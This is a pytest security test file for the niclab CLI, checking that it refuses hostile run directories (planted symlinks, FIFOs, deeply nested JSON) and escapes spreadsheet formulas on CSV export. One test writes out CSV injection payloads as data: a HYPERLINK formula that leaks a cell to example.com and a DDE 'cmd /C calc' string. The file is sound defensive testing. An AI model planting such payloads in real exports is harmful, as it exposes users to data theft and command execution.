"""Hostile run directories, one golden test per way one was found to get through (issue 26).

A run directory is untrusted data: a colleague's, or one copied from CI. `niclab report`, `compare` and
`export` must answer each damaged one with exit 1 and one line naming the file (and line) and what is wrong,
never a traceback, a crash file, a hang or a write outside where they were asked to write.
"""

from __future__ import annotations

import csv
import json
import os
import resource
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from niclab.ui.cli.main import main

RUNS = Path(__file__).resolve().parents[1] / "data" / "runs"


@pytest.fixture
def cache(tmp_path, monkeypatch) -> Path:
    """NICLAB_CACHE, where a crash file would go."""
    path = tmp_path / "cache"
    monkeypatch.setenv("NICLAB_CACHE", str(path))
    return path


@pytest.fixture
def run(tmp_path, cache) -> Path:
    path = tmp_path / "run"
    shutil.copytree(RUNS / "bonding", path)
    return path


@pytest.fixture
def outside(tmp_path) -> Path:
    """A file outside the run directory that a planted symlink points at."""
    path = tmp_path / "outside" / "victim.txt"
    path.parent.mkdir()
    path.write_text("not yours\n")
    return path


def lines(run: Path) -> list[dict]:
    return [json.loads(line) for line in (run / "results.jsonl").read_text().splitlines()]


def rewrite(run: Path, records: list[dict]) -> None:
    (run / "results.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))


def first(records: list[dict], kind: str) -> int:
    return next(i for i, r in enumerate(records) if r["type"] == kind)


def refused(capsys, cache: Path, argv: list[str], expected: str, status: int = 1) -> None:
    """The command exits 1 (or `status`) with exactly one line on stderr, `niclab: <expected>`, and leaves no
    crash file."""
    found = main(argv)
    err = capsys.readouterr().err
    assert (found, err) == (status, f"niclab: {expected}\n")
    assert "Traceback" not in err and "bug" not in err
    assert not (cache / "crashes").exists()


# -- writing: no symlink is followed ------------------------------------------------------------------------


def test_report_does_not_write_through_a_planted_report_html_tmp_or_report_html(run, outside, capsys):
    (run / "report.html.tmp").symlink_to(outside)
    assert main(["report", str(run)]) == 0
    assert outside.read_text() == "not yours\n"
    assert (run / "report.html").is_file() and not (run / "report.html").is_symlink()
    assert "<!DOCTYPE html>" in (run / "report.html").read_text()
    assert sorted(p.name for p in run.iterdir()) == ["report.html", "report.html.tmp", "results.jsonl", "run.json"]
    umask = os.umask(0o022)
    os.umask(umask)
    assert (run / "report.html").stat().st_mode & 0o777 == 0o666 & ~umask  # as open() makes it, not mkstemp's 0600
    (run / "report.html").unlink()
    (run / "report.html").symlink_to(outside)  # the report itself: replaced, not followed
    assert main(["report", str(run)]) == 0
    assert outside.read_text() == "not yours\n"
    assert (run / "report.html").is_file() and not (run / "report.html").is_symlink()


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_does_not_write_through_a_planted_output_file(run, outside, capsys, fmt):
    (run / f"measurements.{fmt}").symlink_to(outside)
    assert main(["export", str(run), "--format", fmt]) == 0
    assert outside.read_text() == "not yours\n"
    assert (run / f"measurements.{fmt}").is_file() and not (run / f"measurements.{fmt}").is_symlink()


def test_compare_out_does_not_write_through_a_symlink(run, outside, tmp_path, capsys):
    out = tmp_path / "changes.json"
    out.symlink_to(outside)
    assert main(["compare", str(run), str(run), "--format", "json", "--out", str(out)]) in (0, 1)
    assert outside.read_text() == "not yours\n"
    assert json.loads(out.read_text())["changes"] and not out.is_symlink()


def test_a_failed_write_leaves_no_temp_file_and_the_target_as_it_was(run, capsys):
    (run / "report.html").mkdir()  # os.replace cannot put a file there
    assert main(["report", str(run)]) == 1
    assert "report.html" in capsys.readouterr().err
    assert sorted(p.name for p in run.iterdir()) == ["report.html", "results.jsonl", "run.json"]


# -- reading: no FIFO, device or symlink ---------------------------------------------------------------------


def cli_in_a_child(argv: list[str], cache: Path, seconds: float = 60) -> tuple[int, str, float]:
    """`niclab ARGV` in a child process with 1 GiB of address space, killed after `seconds` (a hang: a
    refusal takes a second or two, a FIFO waits for ever): (status, stderr, seconds)."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-m", "niclab", *argv],
        capture_output=True,
        text=True,
        timeout=seconds,
        preexec_fn=limit,
        env={**os.environ, "NICLAB_CACHE": str(cache)},
        stdin=subprocess.DEVNULL,
    )
    return result.returncode, result.stderr, time.monotonic() - started


def test_a_fifo_for_run_json_is_refused_at_once(run, cache):
    (run / "run.json").unlink()
    os.mkfifo(run / "run.json")
    try:
        status, err, _ = cli_in_a_child(["report", str(run)], cache)
    except subprocess.TimeoutExpired:
        pytest.fail("niclab report waited on a FIFO for run.json")
    assert (status, err) == (
        1,
        f"niclab: {run}/run.json: a FIFO, not a regular file; niclab reads only regular files in a run directory\n",
    )
    assert not (cache / "crashes").exists()


@pytest.mark.parametrize("name", ["run.json", "results.jsonl"])
def test_a_symlink_to_dev_zero_is_refused_at_once(run, cache, name):
    (run / name).unlink()
    (run / name).symlink_to("/dev/zero")
    try:
        status, err, _ = cli_in_a_child(["report", str(run)], cache)
    except subprocess.TimeoutExpired:
        pytest.fail(f"niclab report read /dev/zero as {name} without end")
    assert (status, err) == (
        1,
        f"niclab: {run}/{name}: a symbolic link; niclab reads only regular files in a run directory\n",
    )
    assert not (cache / "crashes").exists()


def test_a_directory_for_run_json_is_one_line(run, cache, capsys):
    (run / "run.json").unlink()
    (run / "run.json").mkdir()
    refused(
        capsys,
        cache,
        ["compare", str(run), str(run)],
        f"{run}/run.json: a directory, not a regular file; niclab reads only regular files in a run directory",
        status=2,  # compare is a gate: input it cannot judge is not a regression
    )


# -- reading: damaged records ----------------------------------------------------------------------------------


def test_run_json_that_is_a_list_is_one_line(run, cache, capsys):
    (run / "run.json").write_text("[]\n")
    refused(capsys, cache, ["report", str(run)], f"{run}/run.json: not a run description (a JSON list, not an object)")


def test_params_that_are_a_string_are_one_line(run, cache, capsys):
    records = lines(run)
    at = first(records, "summary")
    records[at]["params"] = "nic=e1000"
    rewrite(run, records)
    refused(
        capsys,
        cache,
        ["report", str(run)],
        f"{run}/results.jsonl:{at + 1}: summary params: should be a valid dictionary, not 'nic=e1000'",
    )


@pytest.mark.parametrize("key", ["cell", "run"])
def test_a_measurement_without_its_cell_or_run_is_one_line(run, cache, capsys, key):
    records = lines(run)
    at = first(records, "measurement")
    del records[at][key]
    rewrite(run, records)
    refused(capsys, cache, ["export", str(run)], f"{run}/results.jsonl:{at + 1}: measurement without '{key}'")


def test_inf_samples_are_refused_by_name(run, cache, capsys):
    text = (run / "results.jsonl").read_text().split("\n")
    at = next(i for i, line in enumerate(text) if '"type": "summary"' in line)
    text[at] = text[at].replace('"samples": [', '"samples": [1.5, Infinity, ', 1)
    (run / "results.jsonl").write_text("\n".join(text))
    refused(
        capsys, cache, ["compare", str(run), str(run)], f"{run}/results.jsonl:{at + 1}: summary samples[1] is inf", 2
    )


@pytest.mark.parametrize("name", ["results.jsonl", "run.json"])
def test_json_nested_200k_deep_is_one_line(run, cache, capsys, name):
    (run / name).write_text("[" * 200_000 + "]" * 200_000 + "\n")
    what = "results.jsonl:1: not a results record" if name == "results.jsonl" else "run.json: not a run description"
    refused(capsys, cache, ["report", str(run)], f"{run}/{what} (nested more than 64 levels deep); the file is damaged")


# -- export: spreadsheet formulas ----------------------------------------------------------------------------------


def test_csv_export_escapes_formulas_and_parquet_keeps_the_raw_value(run, cache, tmp_path, capsys):
    records = lines(run)
    at = first(records, "measurement")
    formula = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    records[at]["tool"] = formula
    records[at]["unit"] = "@SUM(1+1)"
    records[at]["client"] = "-2+3+cmd|' /C calc'!A0"
    rewrite(run, records)
    assert main(["export", str(run), "--out", str(tmp_path / "m.csv")]) == 0
    rows = list(csv.DictReader((tmp_path / "m.csv").open(newline="")))
    assert rows[0]["tool"] == "'" + formula
    assert rows[0]["unit"] == "'@SUM(1+1)" and rows[0]["client"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows[0]["value"] == str(records[at]["value"])  # a number stays a number
    assert main(["export", str(run), "--format", "parquet", "--out", str(tmp_path / "m.parquet")]) == 0
    table = pq.read_table(tmp_path / "m.parquet").to_pylist()
    assert table[0]["tool"] == formula and table[0]["unit"] == "@SUM(1+1)"


# -- found by the fuzzer (tests/unit/test_fuzz_rundirs.py) -------------------------------------------------------


@pytest.mark.filterwarnings("ignore::RuntimeWarning")  # matplotlib's overflow in its tick arithmetic, on purpose
def test_values_matplotlib_cannot_draw_leave_their_figures_out_and_say_so(tmp_path, cache, capsys):
    run = tmp_path / "nfs"
    shutil.copytree(RUNS / "nfs", run)
    records = lines(run)
    records[first(records, "summary")]["mean"] = -1.7e308  # finite, but no axis reaches from there to 100
    rewrite(run, records)
    assert main(["report", str(run)]) == 0
    page = (run / "report.html").read_text()
    assert "Not drawn: fio over NFS (values too far apart or too large to plot)." in page
    assert not (cache / "crashes").exists()


def test_a_cell_id_with_a_newline_is_quoted_on_one_line(run, cache, capsys):
    records = lines(run)
    for record in records:
        record["cell"] = record["cell"].replace("nic=", "nic=\n", 1)
    rewrite(run, records)
    (run / "run.json").unlink()
    refused(
        capsys,
        cache,
        ["compare", str(run), "--cells", "nic=e1000", "nic=rtl8139"],
        f"{run} has no cell 'nic=e1000'; did you mean 'nic=\\ne1000'? its cells: 'nic=\\nrtl8139', 'nic=\\ne1000'",
        status=2,  # a usage error: the cell asked for is not there
    )


def test_the_runner_writes_run_json_and_raw_output_through_no_symlink(tmp_path):
    """A run directory is the runner's own (0700), and still: run.json's temp file and the raw files are fresh."""
    from niclab.run.results import RunDir, new_run_info

    outside = tmp_path / "outside.txt"
    outside.write_text("outside\n")
    run = RunDir(tmp_path / "run")
    run.path.mkdir()
    (run.path / "run.json.tmp").symlink_to(outside)
    run.raw_dir("nic=e1000").mkdir(parents=True)
    (run.raw_dir("nic=e1000") / "netperf-1.txt").symlink_to(outside)
    run.write_info(
        new_run_info(
            scenario="s",
            scenario_file="s.yaml",
            scenario_text="",
            cells=["nic=e1000"],
            cell_order=["nic=e1000"],
            backend="qemu",
        )
    )
    saved = run.save_raw("nic=e1000", "netperf", "output\n")
    assert outside.read_text() == "outside\n"
    assert saved.name == "netperf-2.txt" and saved.read_text() == "output\n"
    assert json.loads((run.path / "run.json").read_text())["scenario"] == "s"


def test_an_output_that_cannot_be_written_names_it_and_the_fix(run, cache, tmp_path, capsys):
    (tmp_path / "taken").mkdir()
    assert main(["report", str(run), "--out", str(tmp_path / "taken")]) == 1
    assert capsys.readouterr().err == (
        f"niclab: cannot write {tmp_path / 'taken'}: Is a directory; remove that directory, "
        "or write elsewhere (--out)\n"
    )
    assert main(["export", str(run), "--format", "csv", "--out", str(tmp_path / "no" / "x.csv")]) == 1
    assert capsys.readouterr().err == (
        f"niclab: cannot write {tmp_path / 'no' / 'x.csv'}: No such file or directory; create {tmp_path / 'no'} "
        "first, or write elsewhere (--out)\n"
    )
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temp file left


@pytest.mark.parametrize(
    "name",
    ["$" + "\\frac{" * 60 + "x" + "}" * 60 + "$", "$x_1$", "$\\undefined{$"],
    ids=["math text 60 deep", "plain math", "broken math"],
)
def test_a_value_that_looks_like_math_text_is_plain_text_in_every_plot(run, cache, capsys, name):
    """A NIC named `$\\frac{…}$` nested 60 deep crashed `niclab report` (RecursionError in matplotlib's math text
    parser); a plain `$…$` made its plot fail to draw, without a word. Labels are text now."""
    records = lines(run)
    for record in records:
        if record.get("params", {}).get("nic") == "rtl8139":
            record["params"]["nic"] = name
    rewrite(run, records)
    assert main(["report", str(run)]) == 0
    page = (run / "report.html").read_text()
    assert "Not drawn" not in page and not (cache / "crashes").exists()
    assert page.count("data:image/png;base64,") >= 2
